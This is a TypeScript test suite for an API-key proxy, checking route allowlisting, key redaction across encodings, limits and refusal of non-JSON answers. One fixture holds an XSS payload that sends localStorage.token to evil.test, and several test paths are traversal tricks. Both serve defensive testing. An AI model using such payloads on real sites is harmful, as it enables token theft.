import { expect } from "chai";
import fc from "fast-check";
import {
  createClient,
  createKeyProxy,
  defaultProxyRoutes,
  getChains,
  HttpError,
  testnet,
} from "../../../src/client/index.ts";
import { rejectionOf } from "./support/fakeService.ts";
import { requestId } from "./support/samples.ts";

const html = "<script>fetch('https://evil.test/?' + localStorage.token)</script>";

const apiKey = 'sk-"live"\\3f1c9d';

function stage(answer: (url: string, init: RequestInit) => Response | Promise<Response>, more = {}) {
  const calls: { init: RequestInit; url: string }[] = [];
  const handler = createKeyProxy({
    apiKey,
    baseUrl: "http://service.test/v",
    fetch: async (url, init) => {
      calls.push({ init, url });
      return answer(url, init);
    },
    ...more,
  });
  const call = (path: string, init?: RequestInit) => handler(new Request(`https://app.test${path}`, init));
  return { call, calls, handler };
}

describe("createKeyProxy", () => {
  it("adds the key, and passes nothing on but the route, the query and the body", async () => {
    const { call, calls } = stage(() => Response.json({ ok: true }, { headers: { "set-cookie": "a=b" } }));
    const answer = await call("/quote/v2?a=1", {
      body: '{"amount":"1"}',
      headers: {
        authorization: "Bearer x",
        cookie: "session=1",
        "x-api-key": "mine",
        "x-forwarded-for": "1.2.3.4",
      },
      method: "POST",
    });
    expect([answer.status, await answer.json()]).to.deep.equal([200, { ok: true }]);
    expect([...answer.headers.keys()]).to.deep.equal(["content-type", "x-content-type-options"]);
    const headers = Object.fromEntries(new Headers(calls[0]?.init.headers));
    expect(headers).to.deep.equal({
      accept: "application/json",
      "content-type": "application/json",
      "x-api-key": apiKey,
    });
    expect(calls[0]?.url).to.equal("http://service.test/v/quote/v2?a=1");
    expect(calls[0]?.init).to.include({ body: '{"amount":"1"}', method: "POST", redirect: "manual" });
  });

  it("cuts the key out of an answer's body and headers", async () => {
    const echo = () =>
      Response.json({ message: `key ${apiKey}` }, { headers: { link: `<x?key=${apiKey}>` }, status: 401 });
    const { call } = stage(echo);
    const answer = await call("/chains");
    const all = `${await answer.text()} ${JSON.stringify([...answer.headers])}`;
    expect(answer.status).to.equal(401);
    expect(all).to.not.include("3f1c9d");
  });

  it("lets no route through that is not listed", async () => {
    const { call, calls } = stage(() => Response.json({}));
    const paths = [
      "/requests/v3",
      "/requests/v2",
      "/execute",
      "/fast-fill",
      "/admin",
      "/",
      "//evil.test/chains",
    ];
    const tricks = [
      "/requests/..%2fv3/signature",
      "/requests/%2e%2e/signature",
      "/requests/a/b/signature",
      "/chains/",
      "/CHAINS",
      "/chainsx",
      "/intents/status/v3/../../../requests/v3",
    ];
    for (const path of [...paths, ...tricks]) expect((await call(path)).status, path).to.equal(404);
    for (const method of ["POST", "PUT", "DELETE", "OPTIONS", "HEAD"]) {
      expect((await call("/chains", { method })).status, method).to.equal(404);
    }
    expect(calls).to.deep.equal([]);
    for (const route of defaultProxyRoutes) {
      const [method = "", path = ""] = route.replace(":requestId", requestId).split(" ");
      expect((await call(path, { body: method === "POST" ? "{}" : null, method })).status, route).to.equal(
        200,
      );
    }
  });

  it("takes its own routes under its own prefix", async () => {
    const { call } = stage(() => Response.json({}), { prefix: "/api/relay", routes: ["GET /requests/v3"] });
    expect((await call("/api/relay/requests/v3?limit=1")).status).to.equal(200);
    expect((await call("/requests/v3")).status).to.equal(404);
    expect((await call("/api/relayx/requests/v3")).status).to.equal(404);
    expect((await call("/api/relay/chains")).status).to.equal(404);
  });

  it("bounds bodies, time and redirects", async () => {
    const long = stage(() => Response.json({}), { maxBodyBytes: 10 });
    expect((await long.call("/price", { body: "x".repeat(11), method: "POST" })).status).to.equal(413);
    expect((await long.call("/price", { body: "x".repeat(10), method: "POST" })).status).to.equal(200);
    const slow = stage(
      (_url, { signal }) =>
        new Promise((_, reject) => {
          signal?.addEventListener("abort", () => reject(signal.reason));
        }),
      { timeout: 10 },
    );
    expect((await slow.call("/chains")).status).to.equal(504);
    const moved = stage(() => new Response(null, { headers: { location: "http://evil.test" }, status: 302 }));
    expect((await moved.call("/chains")).status).to.equal(502);
    const down = stage(() => {
      throw new TypeError(`cannot connect with ${apiKey}`);
    });
    const answer = await down.call("/chains");
    expect([answer.status, await answer.text()]).to.deep.equal([
      502,
      '{"message":"The service did not answer"}',
    ]);
  });

  it("serves a client that has no key", async () => {
    const { handler } = stage(() => Response.json({ chains: [] }), { prefix: "/api" });
    const fetch = (url: string, init: RequestInit) => handler(new Request(url, init));
    const client = createClient({ baseUrl: "https://app.test/api", fetch });
    expect(await getChains(client)).to.deep.equal({ chains: [] });
    const other = createClient({ baseUrl: "https://app.test/other", fetch });
    expect(await rejectionOf(getChains(other)))
      .to.be.instanceOf(HttpError)
      .and.have.property("status", 404);
  });

  it("answers anything without throwing", async () => {
    const { handler } = stage(() => Response.json({}));
    await fc.assert(
      fc.asyncProperty(fc.webPath(), fc.constantFrom("GET", "POST", "PATCH"), async (path, method) => {
        const answer = await handler(new Request(`https://app.test${path}`, { method }));
        expect(answer.status).to.be.oneOf([200, 404]);
      }),
    );
  });

  it("refuses parameters that cannot work, without quoting the key", () => {
    for (const key of ["", "short", "with space inside", "line\nbreak-in-it"]) {
      expect(() => createKeyProxy({ ...testnet, apiKey: key })).to.throw("`apiKey` is invalid");
    }
    expect(() => createKeyProxy({ apiKey, baseUrl: "ftp://x" })).to.throw("`baseUrl` is invalid");
    expect(() => createKeyProxy({ ...testnet, apiKey, prefix: "/api/" })).to.throw("`prefix` is invalid");
    for (const route of ["chains", "GET chains", "DELETE /chains", "GET /a b", "GET /a?b=1"]) {
      expect(() => createKeyProxy({ ...testnet, apiKey, routes: [route] })).to.throw("`routes` is invalid");
    }
  });

  describe("given answers other than JSON", () => {
    const types = ["text/html", "text/html;charset=utf-8", "image/svg+xml", "application/xhtml+xml", "", "x"];

    for (const type of types) {
      it(`Q13: passes no body of type "${type}" to the app's origin`, async () => {
        for (const status of [200, 400, 429, 500, 503]) {
          for (const body of [html, "{}"]) {
            const answer = new Response(body, { headers: { "retry-after": "7" }, status });
            answer.headers.set("content-type", type);
            const passed = await stage(() => answer).call("/chains");
            expect(passed.status).to.equal(status === 200 ? 502 : status);
            expect(passed.headers.get("content-type")).to.equal("application/json");
            expect(passed.headers.get("x-content-type-options")).to.equal("nosniff");
            expect(passed.headers.get("retry-after")).to.equal("7");
            expect(await passed.json()).to.have.all.keys("message");
          }
        }
      });
    }

    it("Q13: passes no page that calls itself JSON, and marks every answer `nosniff`", async () => {
      const headers = { "content-type": "application/json" };
      const answers = [new Response(html, { headers }), new Response("{} <b>", { headers })];
      for (const answer of answers) {
        const passed = await stage(() => answer).call("/chains");
        expect([passed.status, await passed.json()]).to.deep.equal([
          502,
          { message: "The service answered with something other than JSON" },
        ]);
      }
      const own = [
        await stage(() => Response.json({})).call("/nowhere"),
        await stage(throwing).call("/chains"),
      ];
      for (const { headers: set } of own) {
        expect([set.get("content-type"), set.get("x-content-type-options")]).to.deep.equal([
          "application/json",
          "nosniff",
        ]);
      }
    });

    it("passes an empty answer, and JSON of a vendor's type as plain JSON", async () => {
      const empty = await stage(() => new Response(null, { status: 200 })).call("/chains");
      expect([empty.status, await empty.text()]).to.deep.equal([200, ""]);
      const problem = new Response('{"a":12345678901234567890}', {
        headers: { "content-type": "application/problem+json; charset=utf-8" },
        status: 400,
      });
      const passed = await stage(() => problem).call("/chains");
      expect([passed.status, await passed.text()]).to.deep.equal([400, '{"a":12345678901234567890}']);
      expect(passed.headers.get("content-type")).to.equal("application/json");
    });
  });

  describe("given the key in another form", () => {
    const slashed = "sk/live+3f1c9d==";
    const hex = (text: string) => [...text].map((each) => each.charCodeAt(0).toString(16).padStart(2, "0"));
    const forms: Readonly<Record<string, string>> = {
      "escaped slashes": slashed.replaceAll("/", "\\/"),
      "Unicode escapes": hex(slashed)
        .map((code) => `\\u00${code.toUpperCase()}`)
        .join(""),
      "escapes of JSON in JSON": JSON.stringify(
        hex(slashed)
          .map((code) => `\\u00${code}`)
          .join(""),
      ).slice(1, -1),
      "per cent": encodeURIComponent(slashed),
      "per cent, every character, twice": encodeURIComponent(
        hex(slashed)
          .map((code) => `%${code}`)
          .join(""),
      ),
      base64: btoa(slashed),
      "base64 of a pair": btoa(`me:${slashed}`),
      "base64 of a header": btoa(`x-api-key: ${slashed}!`),
      "base64 for URLs": btoa(`k:${slashed}`).replaceAll("+", "-").replaceAll("/", "_"),
    };
    for (const [name, form] of Object.entries(forms)) {
      it(`Q15: cuts it out as ${name}`, async () => {
        const headers = { "content-type": "application/json", link: `<x?key=${form}>` };
        const { call } = stage(() => new Response(`{"message":"a ${form} b"}`, { headers }), {
          apiKey: slashed,
        });
        const answer = await call("/chains");
        const { message } = (await answer.json()) as { message: string };
        expect(message).to.include("…").and.match(/^a /);
        expect(message.replace(/^a | b$/g, "").length).to.be.lessThan(form.length / 2 + 4);
        expect(answer.headers.get("link")).to.not.include(form);
      });
    }
  });

  describe("given bodies that fail", () => {
    const stalled = () => new ReadableStream({ pull: () => new Promise<void>(() => undefined) });
    const broken = () =>
      new ReadableStream({
        pull: (controller) => controller.error(new Error(`connection reset, ${apiKey}`)),
      });
    const post = (body: BodyInit) =>
      new Request("https://app.test/price", { body, duplex: "half", method: "POST" } as RequestInit);

    it("Q16: answers 400 to a body that breaks, is locked or was read, and asks the service nothing", async () => {
      const { calls, handler } = stage(() => Response.json({}));
      const locked = post("{}");
      locked.body?.getReader();
      const used = post("{}");
      await used.text();
      for (const request of [post(broken()), locked, used]) {
        const answer = await handler(request);
        expect([answer.status, await answer.json()]).to.deep.equal([
          400,
          { message: "The body cannot be read" },
        ]);
      }
      expect(calls).to.deep.equal([]);
    });

    it("Q16: gives a call's body no more time than the call, and lets go of it", async () => {
      let cancelled = 0;
      const watched = new ReadableStream({
        cancel: () => {
          cancelled++;
        },
        pull: () => new Promise<void>(() => undefined),
      });
      const { calls, handler } = stage(() => Response.json({}), { timeout: 20 });
      expect((await handler(post(watched))).status).to.equal(504);
      expect(calls).to.deep.equal([]);
      await new Promise((resolve) => setTimeout(resolve, 5));
      expect(cancelled).to.equal(1);
    });

    it("Q16: gives an answer's body no more time than the call, and survives one that breaks or is locked", async () => {
      const headers = { "content-type": "application/json" };
      const slow = stage(() => new Response(stalled(), { headers }), { timeout: 20 });
      expect((await slow.call("/chains")).status).to.equal(504);
      const locked = Response.json({});
      locked.body?.getReader();
      for (const answer of [new Response(broken(), { headers }), locked, {} as Response]) {
        const passed = await stage(() => answer).call("/chains");
        expect([passed.status, await passed.text()]).to.deep.equal([
          502,
          '{"message":"The service did not answer"}',
        ]);
      }
    });

    it("answers 504 when the caller has gone, with a foreign kind of signal too", async () => {
      const { handler } = stage(() => Response.json({}));
      const gone = new Request("https://app.test/chains", { signal: AbortSignal.abort() });
      expect((await handler(gone)).status).to.equal(504);
      const foreign = { method: "GET", signal: {}, url: "https://app.test/chains" };
      expect((await handler(foreign as Request)).status).to.equal(200);
    });
  });
});

function throwing(): never {
  throw new TypeError("connection refused");
}
